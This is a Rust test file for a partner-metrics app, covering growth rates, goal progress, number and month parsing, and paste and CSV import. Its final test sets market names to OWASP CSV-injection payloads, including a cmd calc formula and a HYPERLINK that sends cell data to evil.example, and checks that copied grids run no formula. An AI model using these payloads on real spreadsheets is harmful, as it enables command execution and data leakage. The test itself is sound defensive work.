//! Metrics: edits, growth, goal progress, the pasted table and CSV. Breadth of buy-in
//! and the late-figure rules have their own file, `tests/model_buy_in.rs`.

use chrono::{DateTime, TimeZone, Utc};
use proptest::prelude::*;
use std::collections::BTreeMap;
use tandem::model::core::vocabulary::{GoalStatus, Stage};
use tandem::model::formats::csv::{CsvTable, Mapping};
use tandem::model::formats::csv_metrics::{
    apply_metrics, apply_paste, grid_text, metrics_csv, parse_month, parse_number, parse_paste,
    rows_to_metrics, Layout, MetricField,
};
use tandem::model::goals::Goal;
use tandem::model::metrics::growth::{self, growth, Growth, Period};
use tandem::model::metrics::{self, Series};
use tandem::model::workspace::records::{Market, Partner, Workspace};
use tandem::model::{Id, Month};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, 9, 0, 0).unwrap()
}

fn id(s: &str) -> Id {
    Id::parse(s).unwrap()
}

fn m(s: &str) -> Month {
    Month::parse(s).unwrap()
}

const MARKETS: [(&str, &str); 6] = [
    ("m-us", "United States"),
    ("m-br", "Brazil"),
    ("m-uk", "United Kingdom"),
    ("m-de", "Germany"),
    ("m-mx", "Mexico"),
    ("m-in", "India"),
];

/// A live partner in the six markets, with no values yet.
fn workspace() -> Workspace {
    let then = now() - chrono::Duration::days(400);
    let mut ws = Workspace {
        program_name: "Test".into(),
        ..Default::default()
    };
    ws.markets = MARKETS
        .iter()
        .map(|(i, n)| Market::new(id(i), *n, then))
        .collect();
    let mut p = Partner::new(id("p-1"), "Loopline", then);
    p.stage = Stage::Live;
    p.markets = MARKETS.iter().map(|(i, _)| id(i)).collect();
    ws.partners.push(p.into());
    ws
}

fn series(market: &str, values: &[(&str, f64)]) -> Series {
    Series {
        market: id(market),
        metric: "sign-ups".into(),
        values: values.iter().map(|(k, v)| (m(k), *v)).collect(),
    }
}

/// Each market's value in Aug–Oct 2025 and Aug–Oct 2026 (the same every month).
fn with_window(ws: &mut Workspace, per_market: &[(&str, f64, f64)]) {
    for (market, before, after) in per_market {
        let mut values = Vec::new();
        for month in ["2025-08", "2025-09", "2025-10"] {
            values.push((month, *before));
        }
        for month in ["2026-08", "2026-09", "2026-10"] {
            values.push((month, *after));
        }
        ws.partners[0].metrics.push(series(market, &values));
    }
}

// --- edits --------------------------------------------------------------------------

#[test]
fn setting_and_clearing_a_value_stamps_the_partner_and_reports_change() {
    let mut ws = workspace();
    let later = now();
    let p = id("p-1");
    assert_eq!(
        metrics::set_value(
            &mut ws,
            &p,
            &id("m-us"),
            "users",
            m("2026-10"),
            Some(5.0),
            later
        ),
        Ok(true)
    );
    assert_eq!(ws.partners[0].updated, later);
    assert_eq!(ws.partners[0].metrics.len(), 1);
    // The same value again changes nothing.
    assert_eq!(
        metrics::set_value(
            &mut ws,
            &p,
            &id("m-us"),
            "users",
            m("2026-10"),
            Some(5.0),
            later
        ),
        Ok(false)
    );
    assert_eq!(
        metrics::set_value(&mut ws, &p, &id("m-us"), "users", m("2026-10"), None, later),
        Ok(true)
    );
    assert!(ws.partners[0].metrics[0].values.is_empty());
    assert!(tandem::model::workspace::validate::workspace(&ws).is_empty());
}

#[test]
fn bad_edits_change_nothing_and_say_why() {
    let mut ws = workspace();
    let before = ws.clone();
    let p = id("p-1");
    let month = m("2026-10");
    let nan = metrics::set_value(
        &mut ws,
        &p,
        &id("m-us"),
        "users",
        month,
        Some(f64::NAN),
        now(),
    );
    assert!(nan.unwrap_err().to_string().contains("number"));
    let market = metrics::set_value(&mut ws, &p, &id("m-xx"), "users", month, Some(1.0), now());
    assert!(market.unwrap_err().to_string().contains("catalogue"));
    let blank = metrics::set_value(&mut ws, &p, &id("m-us"), "  ", month, Some(1.0), now());
    assert!(blank.is_err());
    let gone = metrics::set_value(
        &mut ws,
        &id("p-9"),
        &id("m-us"),
        "users",
        month,
        Some(1.0),
        now(),
    );
    assert!(gone.is_err());
    assert_eq!(ws, before);
}

#[test]
fn own_metrics_are_added_per_market_and_renamed_but_standard_ones_keep_their_name() {
    let mut ws = workspace();
    let p = id("p-1");
    assert_eq!(
        metrics::add_series(&mut ws, &p, None, " downloads ", now()),
        Ok(true)
    );
    assert_eq!(ws.partners[0].metrics.len(), 6);
    assert_eq!(
        metrics::add_series(&mut ws, &p, None, "downloads", now()),
        Ok(false)
    );
    assert_eq!(
        metrics::metric_names(&ws.partners[0]),
        ["users", "revenue", "streams", "sign-ups", "downloads"]
    );
    assert!(metrics::rename_metric(&mut ws, &p, "users", "people", now()).is_err());
    assert!(metrics::rename_metric(&mut ws, &p, "downloads", "users", now()).is_err());
    assert_eq!(
        metrics::rename_metric(&mut ws, &p, "downloads", "installs", now()),
        Ok(true)
    );
    assert!(ws.partners[0]
        .metrics
        .iter()
        .all(|s| s.metric == "installs"));
}

// --- growth ---------------------------------------------------------------------------

#[test]
fn growth_month_over_month_and_year_over_year() {
    let s = series(
        "m-us",
        &[("2025-10", 800.0), ("2026-09", 1000.0), ("2026-10", 1200.0)],
    );
    let mom = growth(&s, m("2026-10"), Period::MonthOverMonth);
    assert_eq!(mom.rate(), Some(0.2));
    assert_eq!(mom.short(), "+20 %");
    let yoy = growth(&s, m("2026-10"), Period::YearOverYear);
    assert_eq!(yoy.rate(), Some(0.5));
    assert_eq!(yoy.short(), "+50 %");
}

#[test]
fn growth_explains_gaps_and_zero_bases_instead_of_dividing() {
    let s = series(
        "m-us",
        &[("2026-08", 0.0), ("2026-09", 40.0), ("2026-10", 0.0)],
    );
    assert_eq!(
        growth(&s, m("2026-09"), Period::MonthOverMonth),
        Growth::FromZero { now: 40.0 }
    );
    assert_eq!(
        growth(&s, m("2026-09"), Period::MonthOverMonth).short(),
        "new"
    );
    assert_eq!(
        growth(&s, m("2026-10"), Period::YearOverYear),
        Growth::NoBase { base: m("2025-10") }
    );
    assert_eq!(
        growth(&s, m("2026-11"), Period::MonthOverMonth),
        Growth::NoValue
    );
    assert_eq!(
        growth(&s, m("2026-10"), Period::MonthOverMonth).rate(),
        Some(-1.0)
    );
    // A negative base: a loss shrinking is growth.
    let loss = series("m-us", &[("2026-09", -100.0), ("2026-10", -50.0)]);
    assert_eq!(
        growth(&loss, m("2026-10"), Period::MonthOverMonth).rate(),
        Some(0.5)
    );
}

#[test]
fn the_window_pairs_only_months_with_a_value_a_year_earlier() {
    // Figures only since August 2026: no year-earlier month, so no window growth (not
    // "+60" from an assumed zero).
    let new = series(
        "m-us",
        &[("2026-08", 10.0), ("2026-09", 20.0), ("2026-10", 30.0)],
    );
    assert_eq!(growth::window_growth(&new, m("2026-10")), None);
    // Zeros entered for the months before launch: the launch is growth.
    let launched = series(
        "m-us",
        &[
            ("2025-08", 0.0),
            ("2025-09", 0.0),
            ("2025-10", 0.0),
            ("2026-08", 10.0),
            ("2026-09", 20.0),
            ("2026-10", 30.0),
        ],
    );
    assert_eq!(growth::window_growth(&launched, m("2026-10")), Some(60.0));
    // A gap a year earlier inside the data: that month pairs with nothing and is skipped.
    let gap = series(
        "m-us",
        &[
            ("2025-08", 5.0),
            ("2025-10", 5.0),
            ("2026-08", 10.0),
            ("2026-09", 10.0),
            ("2026-10", 10.0),
        ],
    );
    assert_eq!(growth::window_growth(&gap, m("2026-10")), Some(10.0));
    let w = growth::window(&gap, m("2026-10")).unwrap();
    assert_eq!((w.pairs, w.before, w.now), (2, 10.0, 20.0));
    assert_eq!(growth::window_growth(&gap, m("2027-06")), None);
}

/// A change a month is a difference of 3-month means: thirds are the mean's artefact,
/// not a measurement, so the screens show whole numbers (one decimal below 10).
#[test]
fn a_change_a_month_is_shown_without_the_thirds_of_its_mean() {
    assert_eq!(growth::per_month(22_891.666_7), "+22,892 a month");
    assert_eq!(growth::per_month(-414.666_7), "\u{2212}415 a month");
    assert_eq!(growth::per_month(77.666_7), "+78 a month");
    assert_eq!(growth::per_month(4.0), "+4 a month");
    assert_eq!(growth::per_month(0.333_3), "+0.3 a month");
    assert_eq!(growth::per_month(0.0), "0 a month");
}

#[test]
fn the_window_reads_per_month_like_the_month_beside_it() {
    // A market of about 100 users a month that grew by 50: the table reads "+50 a
    // month", never "+150" summed over three months, more than the market itself.
    let s = series(
        "m-us",
        &[
            ("2025-08", 50.0),
            ("2025-09", 50.0),
            ("2025-10", 50.0),
            ("2026-08", 100.0),
            ("2026-09", 100.0),
            ("2026-10", 100.0),
        ],
    );
    let w = growth::window(&s, m("2026-10")).unwrap();
    assert_eq!((w.change(), w.monthly_change()), (150.0, 50.0));
    let mut p = Partner::new(id("p"), "P", now());
    p.metrics.push(s);
    let rows = growth::by_market(&p, "sign-ups", m("2026-10"));
    assert_eq!(rows[0].window, Some(50.0));
}

// --- goals and totals ------------------------------------------------------------------

/// The Goals tab reads a goal's figures as health does, in the last complete month, and
/// says so in a sentence; when they disagree with the status set by hand it says to
/// check it. A lead marking a goal "on track" at 60 % of its plan wants to be told.
#[test]
fn a_goal_card_says_what_its_figures_read_and_when_they_disagree_with_its_status() {
    let mut ws = workspace();
    // Launched in May at 100 a month, 600 in October, a target of 1,000 due in January
    // 2027: the plan runs 100 → 1,000 over 8 months, 662.5 by October (5 of 8 along).
    ws.partners[0].metrics.push(series(
        "m-us",
        &[("2026-05", 100.0), ("2026-10", 450.0), ("2026-11", 999.0)],
    ));
    ws.partners[0]
        .metrics
        .push(series("m-br", &[("2026-07", 150.0)]));
    let goal = Goal {
        id: id("g-1"),
        statement: "1,000 sign-ups a month".into(),
        metric: "sign-ups".into(),
        target: Some(1000.0),
        due: Some(chrono::NaiveDate::from_ymd_opt(2027, 1, 15).unwrap()),
        status: GoalStatus::OnTrack,
    };
    ws.partners[0].goals.push(goal.clone());
    let p = &ws.partners[0];
    // On 20 November the month under way is not judged: October is, with Brazil's
    // July figure (a quarterly report) standing in, named.
    let today = chrono::NaiveDate::from_ymd_opt(2026, 11, 20).unwrap();
    let r = metrics::goal_figures(p, &goal, today).expect("figures");
    assert_eq!(r.month, m("2026-10"));
    assert_eq!(r.actual, 600.0);
    let words = r.words("sign-ups", |m| ws.market_name(m).to_owned());
    assert_eq!(
        words,
        "Oct 2026: 600 sign-ups, 91 % of the plan to date (663) and 60 % of the target. \
         Brazil as of Jul 2026."
    );
    assert_eq!(r.disagrees_with(GoalStatus::OnTrack), None);
    assert_eq!(r.disagrees_with(GoalStatus::AtRisk), None);
    // Health reads the same progress.
    let growth = tandem::model::figures::health::components(&ws, p, today)
        .into_iter()
        .find(|c| c.factor == tandem::model::figures::health::Factor::Growth)
        .and_then(|c| c.value);
    assert!((growth.unwrap() - r.progress.min(1.0)).abs() < 1e-9);
    // Half the figures: on track by hand, behind plan by the figures.
    let mut half = ws.clone();
    half.partners[0].metrics[0]
        .values
        .insert(m("2026-10"), 150.0);
    let r = metrics::goal_figures(&half.partners[0], &goal, today).expect("figures");
    assert_eq!(
        r.disagrees_with(GoalStatus::OnTrack),
        Some("The figures read behind plan: check the status.")
    );
    // Without a due date the plan is the target itself.
    let open = Goal { due: None, ..goal };
    let r = metrics::goal_figures(p, &open, today).expect("figures");
    assert_eq!(
        r.words("sign-ups", |m| ws.market_name(m).to_owned()),
        "Oct 2026: 600 sign-ups, 60 % of the target. Brazil as of Jul 2026."
    );
    assert_eq!(
        r.disagrees_with(GoalStatus::Missed),
        None,
        "60 % of the target is not on plan"
    );
}

#[test]
fn goal_progress_is_the_latest_month_over_markets_against_the_target() {
    let mut ws = workspace();
    ws.partners[0]
        .metrics
        .push(series("m-us", &[("2026-10", 600.0)]));
    ws.partners[0]
        .metrics
        .push(series("m-br", &[("2026-10", 150.0), ("2026-09", 9.0)]));
    let goal = Goal {
        id: id("g-1"),
        statement: "1,000 sign-ups a month".into(),
        metric: "sign-ups".into(),
        target: Some(1000.0),
        due: None,
        status: GoalStatus::ALL[0],
    };
    let p = &ws.partners[0];
    assert_eq!(metrics::goal_progress(p, &goal, m("2026-10")), Some(0.75));
    assert_eq!(metrics::goal_progress(p, &goal, m("2026-08")), None);
    let no_target = Goal {
        target: None,
        ..goal.clone()
    };
    assert_eq!(metrics::goal_progress(p, &no_target, m("2026-10")), None);
    let zero = Goal {
        target: Some(0.0),
        ..goal
    };
    assert_eq!(metrics::goal_progress(p, &zero, m("2026-10")), None);
    assert_eq!(metrics::latest_month(&ws), Some(m("2026-10")));
    let totals = metrics::total_by_month(&ws, "sign-ups");
    assert_eq!(
        totals,
        BTreeMap::from([(m("2026-09"), 9.0), (m("2026-10"), 750.0)])
    );
    assert_eq!(metrics::latest_month(&workspace()), None);
}

// --- numbers, months and the paste --------------------------------------------------------

#[test]
fn numbers_are_read_in_either_convention() {
    let cases = [
        ("12,400", 12400.0),
        ("12 400", 12400.0),
        ("12\u{a0}400", 12400.0),
        ("1'200", 1200.0),
        ("1,234.5", 1234.5),
        ("1.234,5", 1234.5),
        ("3,5", 3.5),
        ("1,234,567", 1234567.0),
        ("1.234.567", 1234567.0),
        ("1.234", 1.234),
        ("(120)", -120.0),
        ("-7", -7.0),
        ("−7", -7.0),
        ("$1,200", 1200.0),
        ("€ 3,50", 3.5),
        ("0", 0.0),
    ];
    for (text, value) in cases {
        assert_eq!(parse_number(text), Ok(Some(value)), "{text}");
    }
    for empty in ["", "  ", "-", "—"] {
        assert_eq!(parse_number(empty), Ok(None), "{empty:?}");
    }
    for bad in ["abc", "12a", "1.2.3,4,5", "1e5", "NaN", "inf", "1,2.3,4"] {
        assert!(parse_number(bad).is_err(), "{bad}");
    }
    assert!(parse_number("2,000,000,000,000,000")
        .unwrap_err()
        .to_string()
        .contains("10¹⁵"));
}

#[test]
fn months_are_read_as_spreadsheets_write_them() {
    for text in [
        "2026-03",
        "2026-3",
        "2026-03-01",
        "2026/03",
        "03/2026",
        "Mar 2026",
        "March 2026",
        "Mar-26",
        "mar 26",
    ] {
        assert_eq!(parse_month(text), Ok(m("2026-03")), "{text}");
    }
    for bad in ["Foo 2026", "13/2026", "2026", "Ma 2026", ""] {
        assert!(parse_month(bad).is_err(), "{bad}");
    }
}

#[test]
fn a_paste_reports_every_bad_cell_with_row_column_and_reason_and_applies_only_when_asked() {
    let ws = workspace();
    let text = "Market\t2026-08\t2026-09\tTotal\n\
                United States\t4,000\t4.100,5\t\n\
                Atlantis\t1\t2\n\
                brazil\tn/a\t1 500\n";
    let p = &ws.partners[0];
    let preview = parse_paste(&ws, p, "sign-ups", text).unwrap();
    assert_eq!(preview.layout, Layout::MarketsDown);
    let bad: Vec<String> = preview.bad.iter().map(|b| b.to_string()).collect();
    assert_eq!(
        bad,
        [
            "row 1, column D: \"Total\" is not a month such as 2026-03",
            "row 3, column A: market \"Atlantis\" is not in the catalogue (add it on the Data screen, or fix the name)",
            "row 4, column B: \"n/a\" is not a number",
        ]
    );
    assert_eq!(preview.cells.len(), 3);
    assert_eq!(preview.changes(), 3);
    // Parsing changed nothing; applying does.
    let mut applied = ws.clone();
    assert_eq!(
        apply_paste(&mut applied, &id("p-1"), &preview, now()),
        Ok(true)
    );
    let us = metrics::series(&applied.partners[0], &id("m-us"), "sign-ups").unwrap();
    assert_eq!(us.values[&m("2026-09")], 4100.5);
    let br = metrics::series(&applied.partners[0], &id("m-br"), "sign-ups").unwrap();
    assert_eq!(br.values[&m("2026-09")], 1500.0);
}

#[test]
fn the_transposed_layout_and_commas_are_read_too() {
    let ws = workspace();
    let text = "Month,United States,m-br\n2026-08,\"4,000\",10\nSep 2026,4100,\n";
    let preview = parse_paste(&ws, &ws.partners[0], "users", text).unwrap();
    assert_eq!(preview.layout, Layout::MonthsDown);
    assert!(preview.bad.is_empty(), "{:?}", preview.bad);
    assert_eq!(preview.cells.len(), 3);
    let nothing = parse_paste(&ws, &ws.partners[0], "users", "a\tb\nc\td\n");
    assert!(nothing.unwrap_err().to_string().contains("No months"));
    assert!(parse_paste(&ws, &ws.partners[0], "users", "\n\n").is_err());
}

// --- CSV ------------------------------------------------------------------------------------

#[test]
fn metrics_csv_round_trips_through_the_import() {
    let mut ws = workspace();
    with_window(&mut ws, &[("m-us", 1234.5, 0.1), ("m-br", -3.0, 1e12)]);
    let text = metrics_csv(&ws, None);
    assert!(text.starts_with("\u{feff}Partner id,Partner,Market,Metric,Month,Value\r\n"));
    assert_eq!(text.lines().count(), 1 + 12);
    let table = CsvTable::parse(&text).unwrap();
    let mapping = Mapping::<MetricField>::suggest(&table.headers);
    let mut empty = ws.clone();
    empty.partners[0].metrics.clear();
    let import = rows_to_metrics(&empty, &table, &mapping, None).unwrap();
    assert!(import.bad_rows.is_empty(), "{:?}", import.bad_rows);
    assert_eq!(apply_metrics(&mut empty, &import, now()), Ok(true));
    let mut a = ws.partners[0].metrics.clone();
    let mut b = empty.partners[0].metrics.clone();
    a.sort_by(|x, y| x.market.cmp(&y.market));
    b.sort_by(|x, y| x.market.cmp(&y.market));
    assert_eq!(a, b);
}

#[test]
fn a_partners_csv_import_refuses_other_partners_rows_and_names_bad_cells() {
    let ws = workspace();
    let text = "Partner,Country,Month,Value\nLoopline,Brazil,2026-01,5\nNobody,Brazil,2026-01,5\nLoopline,Brazil,13/2026,x\n";
    let table = CsvTable::parse(text).unwrap();
    let mapping = Mapping::<MetricField>::suggest(&table.headers);
    let import = rows_to_metrics(&ws, &table, &mapping, Some(&id("p-1"))).unwrap();
    assert_eq!(import.rows.len(), 1);
    assert_eq!(import.rows[0].metric, "users");
    let bad: Vec<String> = import.bad_rows.iter().map(|b| b.to_string()).collect();
    assert_eq!(bad[0], "row 3: no partner \"Nobody\" in this workspace");
    assert!(
        bad[1].starts_with("row 4: Month: \"13/2026\" is not a month"),
        "{}",
        bad[1]
    );
    assert!(
        bad[1].contains("Value: \"x\" is not a number"),
        "{}",
        bad[1]
    );
    let unmapped = Mapping::<MetricField>::ignore_all(4);
    assert!(rows_to_metrics(&ws, &table, &unmapped, None)
        .unwrap_err()
        .to_string()
        .contains("Market"));
}

// --- properties -------------------------------------------------------------------------------

proptest! {
    #[test]
    fn growth_never_panics_or_gives_nan_on_zeros_and_gaps(
        values in prop::collection::btree_map(0i32..30, prop_oneof![Just(0.0), -1e15f64..1e15], 0..30),
        at in 0i32..40,
    ) {
        let start = m("2024-01");
        let s = Series {
            market: id("m-us"),
            metric: "users".into(),
            values: values.into_iter().map(|(k, v)| (start.plus(k).unwrap(), v)).collect(),
        };
        let month = start.plus(at).unwrap();
        for kind in [Period::MonthOverMonth, Period::YearOverYear] {
            let g = growth(&s, month, kind);
            if let Some(rate) = g.rate() {
                prop_assert!(rate.is_finite());
            }
            let _ = (g.short(), g.explain());
        }
        if let Some(w) = growth::window_growth(&s, month) {
            prop_assert!(w.is_finite());
        }
    }

    /// What the grid shows (and "Copy as table" copies) pastes back to the same values.
    #[test]
    fn a_paste_of_the_grid_round_trips(
        cents in prop::collection::vec(prop::option::of(-10_000_000_000i64..10_000_000_000), 6 * 4),
    ) {
        let mut ws = workspace();
        let months: Vec<Month> = (0..4).map(|k| m("2026-01").plus(k).unwrap()).collect();
        let markets: Vec<Id> = MARKETS.iter().map(|(i, _)| id(i)).collect();
        let mut cells = Vec::new();
        for (k, c) in cents.iter().enumerate() {
            if let Some(c) = c {
                cells.push((markets[k / 4].clone(), months[k % 4], Some(*c as f64 / 100.0)));
            }
        }
        metrics::set_values(&mut ws, &id("p-1"), "users", &cells, now()).unwrap();
        let p = &ws.partners[0];
        let text = grid_text(&ws, p, "users", &markets, &months);
        let preview = parse_paste(&ws, p, "users", &text).unwrap();
        prop_assert!(preview.bad.is_empty(), "{:?}", preview.bad);
        prop_assert_eq!(preview.cells.len(), cells.len());
        prop_assert_eq!(preview.changes(), 0);
    }

    #[test]
    fn any_typed_number_is_read_or_refused_without_panicking(text in "\\PC{0,20}") {
        if let Ok(Some(v)) = parse_number(&text) {
            prop_assert!(v.is_finite());
        }
        let _ = parse_month(&text);
    }

    /// Numbers as people type them, generated rather than listed: any whole part, up to
    /// two decimals, grouped and marked as in English, German, French or Swiss use, with
    /// a sign, parentheses or a currency. Each reads back to exactly the number written
    /// (compared with Rust's own reading of the plain digits). German grouping without
    /// decimals and a single group ("1.234") is left out: it reads as 1.234 by design.
    #[test]
    fn any_number_typed_in_a_known_convention_reads_back_exactly(
        whole in 0u64..1_000_000_000_000,
        decimals in prop_oneof![Just(None), (0u32..10).prop_map(|d| Some(d.to_string())), (0u32..100).prop_map(|d| Some(format!("{d:02}")))],
        convention in 0usize..5,
        sign in 0usize..4,
        currency in prop::sample::select(vec!["", "$", "€ ", "£"]),
    ) {
        let digits = whole.to_string();
        let grouped = |sep: &str| {
            let chars: Vec<char> = digits.chars().collect();
            let mut out = String::new();
            for (i, c) in chars.iter().enumerate() {
                if i > 0 && (chars.len() - i) % 3 == 0 {
                    out.push_str(sep);
                }
                out.push(*c);
            }
            out
        };
        let groups = digits.len().div_ceil(3);
        prop_assume!(!(convention == 2 && decimals.is_none() && groups == 2));
        let (whole_text, mark) = match convention {
            0 => (digits.clone(), "."),
            1 => (grouped(","), "."),
            2 => (grouped("."), ","),
            3 => (grouped("\u{a0}"), ","),
            _ => (grouped("'"), "."),
        };
        let number = match &decimals {
            Some(d) => format!("{whole_text}{mark}{d}"),
            None => whole_text,
        };
        let typed = match sign {
            0 => format!("{currency}{number}"),
            1 => format!("-{currency}{number}"),
            2 => format!("({currency}{number})"),
            _ => format!("−{number}"),
        };
        let plain = match &decimals {
            Some(d) => format!("{digits}.{d}"),
            None => digits.clone(),
        };
        let magnitude: f64 = plain.parse().unwrap();
        let expected = if sign == 0 { magnitude } else { -magnitude };
        prop_assert_eq!(parse_number(&typed), Ok(Some(expected)), "{:?}", typed);
    }
}

/// Market names carrying OWASP's CSV-injection payloads: "Copy" puts no cell on the
/// clipboard that a spreadsheet would run, split at tabs or at line breaks, and the
/// copy pastes back to the same markets and values.
#[test]
fn the_copied_grid_runs_no_formula_in_a_spreadsheet_and_pastes_back() {
    let mut ws = workspace();
    let names = [
        "=cmd|' /C calc'!A0",
        "x;=cmd|' /C calc'!A0;",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "Brazil\n=HYPERLINK(\"http://evil.example?\"&A1)",
        "Korea, Republic of\t+1",
    ];
    for (market, name) in ws.markets.iter_mut().zip(names) {
        market.name = name.to_owned();
    }
    let months: Vec<Month> = (0..2).map(|k| m("2026-01").plus(k).unwrap()).collect();
    let markets: Vec<Id> = MARKETS.iter().map(|(i, _)| id(i)).collect();
    let cells: Vec<(Id, Month, Option<f64>)> = markets
        .iter()
        .flat_map(|market| {
            months
                .iter()
                .map(|month| (market.clone(), *month, Some(-1234.5)))
        })
        .collect();
    metrics::set_values(&mut ws, &id("p-1"), "users", &cells, now()).unwrap();
    let p = &ws.partners[0];
    let text = grid_text(&ws, p, "users", &markets, &months);

    // Split as a spreadsheet's paste does (tabs, quotes honoured) and as a naive one
    // does (every tab and line break); a number such as -1,234.5 is a value, not a formula.
    for quotes in [true, false] {
        let mut cell = String::new();
        let mut cells = Vec::new();
        let (mut quoted, mut at_start) = (false, true);
        for c in text.chars() {
            match c {
                '"' if quotes && (quoted || at_start) => quoted = !quoted,
                '\t' | '\n' | '\r' if !quoted => {
                    cells.push(std::mem::take(&mut cell));
                    at_start = true;
                    continue;
                }
                c => cell.push(c),
            }
            at_start = false;
        }
        cells.push(cell);
        for cell in cells {
            let number = cell.replace(',', "").parse::<f64>().is_ok();
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@']),
                "a paste reads a formula: {cell:?} (quotes honoured: {quotes})"
            );
        }
    }
    let preview = parse_paste(&ws, p, "users", &text).unwrap();
    assert!(preview.bad.is_empty(), "{:?}", preview.bad);
    assert_eq!(preview.cells.len(), cells.len());
    assert_eq!(preview.changes(), 0);
}
